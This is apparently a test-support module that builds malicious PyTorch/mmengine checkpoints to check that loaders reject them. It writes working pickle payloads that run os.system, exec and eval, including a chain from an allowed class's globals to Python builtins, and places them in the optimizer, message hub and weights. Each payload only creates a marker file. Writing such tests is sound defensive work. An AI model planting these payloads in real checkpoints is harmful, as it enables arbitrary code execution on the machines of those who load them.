"""Checkpoints that run code when they are unpickled without a check: each writes a file that gives it away."""

import operator
import os
import pickle
import pydoc
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Pickles as a call, which is made when the pickle is read; callable, so that the result can be called in turn."""

    def __init__(self, function, *arguments):
        self.parts = function, arguments

    def __reduce__(self):
        return self.parts

    def __call__(self):
        raise AssertionError('only a pickle calls it')


def attacks(marker: Path) -> dict[str, object]:
    """Ways to write ``marker`` while unpickling."""
    code = f'open({str(marker)!r}, "w").close()'
    # From the class that is allowed, by the function whose name is allowed, to everything that Python has.
    method = Call(getattr, HistoryBuffer, 'mean')
    everything = Call(operator.getitem, Call(getattr, method, '__globals__'), '__builtins__')
    array = np.empty(1, dtype=object)
    array[0] = Call(exec, code)
    buffer = HistoryBuffer()
    buffer._log_history = Call(exec, code)
    return {
        'system': Call(os.system, f'touch {marker}'),
        'exec': Call(exec, code),
        'eval': Call(eval, code),
        'getattr': Call(Call(operator.getitem, everything, 'exec'), code),
        'method of a class': Call(Call(getattr, Call(pydoc.locate, 'os'), 'system'), f'touch {marker}'),
        'object array': array,
        'in a history buffer': buffer,
    }


def placed(attack: object, state: dict) -> dict[str, dict]:
    """A checkpoint with right weights and the attack in each place where something is read."""
    parts = {'meta': {'iter': 0, 'epoch': 0}, 'state_dict': state}
    hub = {'log_scalars': {'train/loss': attack}, 'runtime_info': {}, 'resumed_keys': {}}
    return {
        'beside the weights': parts | {'attack': attack},
        'in the optimizer': parts | {'optimizer': {'state': {0: {'step': attack}}, 'param_groups': []}},
        'in the message hub': parts | {'message_hub': hub},
        'among the weights': {'state_dict': state | {'backbone.attack': attack}},
        'before the weights': {'meta': {'classes': [attack]}, 'state_dict': state},
        'as a plain state dict': state | {'attack': attack},
    }


def save_archive(content: object, path: Path) -> None:
    torch.save(content, path)


def save_old(content: object, path: Path) -> None:
    torch.save(content, path, _use_new_zipfile_serialization=False)


def save_pickle(content: object, path: Path) -> None:
    path.write_bytes(pickle.dumps({key: value for key, value in content.items() if key != 'state_dict'}))


FORMATS = {'archive': save_archive, 'before torch 1.6': save_old, 'plain pickle': save_pickle}


def write_all(folder: Path, state: dict, marker: Path) -> list[Path]:
    """Every attack in one place, every place with one attack, both in every format."""
    folder.mkdir(parents=True, exist_ok=True)
    found = attacks(marker)
    cases = {name: placed(attack, state)['beside the weights'] for name, attack in found.items()}
    cases |= placed(found['exec'], state)
    paths = []
    for kind, save in FORMATS.items():
        for name, content in cases.items():
            paths.append(folder / f'{name} ({kind}).pth'.replace(' ', '_'))
            save(content, paths[-1])
    return paths


def read_unchecked(path: Path) -> None:
    """Read a file as one must not; shows that an attack would work."""
    try:
        torch.load(path, weights_only=False)
    except Exception:  # whatever comes after the attack does not matter
        with open(path, 'rb') as file:
            pickle.load(file)
